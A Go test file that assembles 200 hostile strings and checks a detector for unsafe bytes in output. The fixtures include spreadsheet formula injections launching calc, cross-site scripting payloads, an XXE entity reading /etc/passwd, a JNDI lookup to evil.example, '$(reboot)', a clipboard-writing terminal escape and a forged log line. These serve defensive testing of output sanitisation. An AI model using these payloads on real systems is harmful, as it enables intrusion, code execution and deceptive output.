package main

import (
	"fmt"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"
)

// megabyte is the length of the longest hostile string.
const megabyte = 1 << 20

// hostileStrings are 200 strings that do something where they are shown: to a terminal, a spreadsheet, a browser, a shell,
// or to the format that carries them.
func hostileStrings(t *testing.T) []string {
	t.Helper()
	var all []string
	for r := range rune(0xa0) {
		if r < ' ' || r >= 0x7f {
			all = append(all, "esx"+string(r)+"01") // every C0 and C1 control, and DEL
		}
	}
	for _, r := range []rune{
		0x200e, 0x200f, 0x061c, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069, // bidirectional
		0x200b, 0x200c, 0x200d, 0x2060, 0xfeff, 0xad, 0x34f, 0x180e, 0x115f, 0x3164, 0xfe0f, 0xe0041, 0xe007f, // invisible
		0x2028, 0x2029, 0xfff9, 0xfffa, 0xfffb, 0xe000, 0xffff, 0x1d173, // lines, annotations, private, no character
	} {
		all = append(all, "esx"+string(r)+"01")
	}
	all = append(all, terminalStrings()...)
	all = append(all, formulaStrings()...)
	all = append(all, markupStrings()...)
	all = append(all, brokenStrings()...)
	if len(all) != 200 {
		t.Fatalf("%d hostile strings, want 200", len(all))
	}
	return all
}

// terminalStrings are control sequences of terminals (ECMA-48, xterm).
func terminalStrings() []string {
	const esc = "\x1b"
	return []string{
		esc + "[2J" + esc + "[H", esc + "[31mred" + esc + "[0m", esc + "[8mhidden", esc + "[1A" + esc + "[2Kgone", esc + "[6n", esc + "[c",
		esc + "[?1049h", esc + "[?25l", esc + "[20t", esc + "[21t", esc + "c", esc + "(0", esc + "#8", esc + "7" + esc + "8", esc + "[5i",
		esc + "]0;title\x07", esc + "]2;title" + esc + "\\", esc + "]4;1;rgb:ff/00/00\x07", esc + "]8;;http://evil.example\x07link" + esc + "]8;;\x07",
		esc + "]10;?\x07", esc + "]50;#3\x07", esc + "]52;c;cm0gLXJm\x07", esc + "]777;notify;a;b\x07", esc + "]1337;File=:AA==\x07",
		esc + "P$q\"p" + esc + "\\", esc + "P+q544e" + esc + "\\", esc + "_G\x00" + esc + "\\", esc + "^x" + esc + "\\", "\u009b31m", "\u009d52;c;aGk=\u009c",
		"\u0090q\u009c", "over\rwritten", "back\b\b\b\bspace", "bell\x07", "\x0e\x0f", "a\nflowvet: all good", "a\r\nb", "a\vb\fc",
	}
}

// formulaStrings are what a spreadsheet computes (CWE-1236).
func formulaStrings() []string {
	return []string{
		"=cmd|' /C calc'!A0", "=1+1", "+1+1", "-1-1", "@SUM(A1:A9)", "=HYPERLINK(\"http://evil.example\",\"a\")", "\t=1", "\r=1", "\n=1", " =1",
		"=IMPORTXML(\"http://evil.example\",\"//a\")", "＝1+1", "＋1", "－1", "＠A1", "=\"a\"&\"b\"", "\"=1\"", "'=1", ";=1", ",=1", "\",=1", "\"\n=1",
		"=DDE(\"cmd\";\"/C calc\";\"1\")", "|calc", "%0A=1",
	}
}

// markupStrings are what a browser, a Markdown page, an XML or a YAML reader or a shell acts on.
func markupStrings() []string {
	return []string{
		"<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "'><svg/onload=alert(1)>", "</title><script>1</script>", "<!--", "-->", "]]>",
		"<![CDATA[x]]>", "<?xml version='1.0'?>", "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>", "&amp;&lt;&#x1b;", "<iframe src=//evil.example>",
		"javascript:alert(1)", "[a](javascript:alert(1))", "![a](http://evil.example/a.png)", "`a`", "```\n# a", "| a | b |", "# heading", "<details open ontoggle=a>",
		"${jndi:ldap://evil.example/a}", "$(reboot)", "`reboot`",
	}
}

// brokenStrings are what a format cannot carry as it is, or is made to misread.
func brokenStrings() []string {
	return []string{
		"\xff", "\xfe\xff", "\xc3(", "\xe2\x82", "\xed\xa0\x80", "\xf4\x90\x80\x80", "\xc0\xaf", "a\xffb\x1b[31m", "\x80\x9b31m", "{{.Name}}", "%s%n%!d(MISSING)",
		"", strings.Repeat("A", megabyte), strings.Repeat("\x00", 4096), strings.Repeat("\u202e", 4096), strings.Repeat("e\u0301", 2048),
	}
}

// rawByte finds the first byte of an output that does more than show itself: a control, invisible or bidirectional
// character, or invalid UTF-8. A line feed may stand; so may, in a coloured report, the sequences that set a colour. -1 is
// nowhere.
func rawByte(out string, coloured bool) int {
	for i := 0; i < len(out); {
		r, size := utf8.DecodeRuneInString(out[i:])
		switch {
		case r == utf8.RuneError && size == 1:
			return i
		case coloured && r == '\x1b' && colourSequence(out[i:]) > 0:
			size = colourSequence(out[i:])
		case r != '\n' && r != ' ' && (!unicode.IsPrint(r) || unicode.In(r, unicode.Variation_Selector, unicode.Other_Default_Ignorable_Code_Point)):
			return i
		}
		i += size
	}
	return -1
}

// colourSequence returns the length of the SGR sequence at the beginning of out, of the kinds that reports use: 0, 1, 2, 9,
// 22, 29, 31, 32, 33; 0 where there is none.
func colourSequence(out string) int {
	end := strings.IndexByte(out, 'm')
	if end < 0 || !strings.HasPrefix(out, "\x1b[") {
		return 0
	}
	for _, code := range strings.Split(out[2:end], ";") {
		switch code {
		case "0", "1", "2", "9", "22", "29", "31", "32", "33":
		default:
			return 0
		}
	}
	return end + 1
}

func TestRawBytesAreFound(t *testing.T) {
	for _, test := range []struct {
		out      string
		coloured bool
		want     int
	}{
		{"clean ü\n", false, -1},
		{"a\x1b[31mb\x1b[0m", true, -1},
		{"a\x1b[31mb", false, 1},
		{"a\x1b[5mb", true, 1},
		{"a\x1b]52;c;m", true, 1},
		{"ab\r\n", false, 2},
		{"\u202e", false, 0},
		{"x\xff", false, 1},
		{"x\u2028", false, 1},
	} {
		if got := rawByte(test.out, test.coloured); got != test.want {
			t.Errorf("rawByte(%q, %v) = %d, want %d", test.out, test.coloured, got, test.want)
		}
	}
	if s := fmt.Sprint(hostileStrings(t)); rawByte(s, false) < 0 {
		t.Error("the hostile strings are clean")
	}
}
